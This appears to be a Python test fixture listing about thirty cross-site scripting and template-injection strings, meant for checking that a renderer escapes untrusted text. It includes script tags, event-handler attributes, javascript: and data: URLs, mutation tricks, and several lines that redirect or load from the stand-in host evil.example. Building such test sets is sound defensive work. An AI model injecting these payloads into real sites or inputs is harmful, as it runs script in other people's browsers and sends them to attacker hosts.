"""What has broken out of a field somewhere."""

#: What has broken out of a text, an attribute, an address, a script or a style somewhere.
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>press</a>",
    "<form action=//evil.example><button>send</button></form>",
    "<style>@import '//evil.example/x.css'</style>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "{{ 7*7 }}{% raw %}",
    "%(name)s %s {0} ${alert(1)}",
    "<!--><script>alert(1)</script>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)",
    "<details open ontoggle=alert(1)>",
    "</pre><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="jav&#x09;ascript:alert(1)">x</a><base href=//example.org/>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)

#: All of them in one text, as each page takes its time, and those that do harm at the beginning of a text alone. What hides
#: the rest of its text is noticed itself.
TOGETHER = (" ".join(PAYLOADS), "javascript:alert(1)", "data:text/html,<script>alert(1)</script>")
